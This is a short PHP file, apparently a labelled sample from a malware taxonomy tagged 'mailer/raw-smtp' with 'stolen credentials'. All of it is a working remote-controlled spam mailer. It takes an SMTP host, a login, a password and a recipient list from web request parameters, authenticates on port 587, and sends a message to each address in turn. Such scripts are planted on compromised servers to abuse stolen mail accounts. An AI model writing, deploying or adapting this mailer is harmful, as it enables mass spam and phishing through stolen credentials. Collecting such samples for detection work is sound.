<?php
/* Family: mailer/raw-smtp
 * Style: submission port with stolen credentials
 * Trait: stream socket to port 587, AUTH LOGIN with request-supplied credentials, loop of recipients
 */
function say($s, $line) { fwrite($s, $line . "\r\n"); return fread($s, 2048); }
$host = $_REQUEST['h'];
$sock = stream_socket_client("tcp://$host:587", $en, $es, 30);
fread($sock, 2048);
say($sock, 'EHLO client.local');
say($sock, 'AUTH LOGIN');
say($sock, base64_encode($_REQUEST['u']));
say($sock, base64_encode($_REQUEST['p']));
foreach (json_decode($_REQUEST['list']) as $to) {
	say($sock, 'MAIL FROM: <' . $_REQUEST['u'] . '>');
	say($sock, 'RCPT TO: <' . $to . '>');
	say($sock, 'DATA');
	say($sock, "To: $to\r\nSubject: " . $_REQUEST['s'] . "\r\n\r\n" . $_REQUEST['b'] . "\r\n.");
	say($sock, 'RSET');
}
say($sock, 'QUIT');
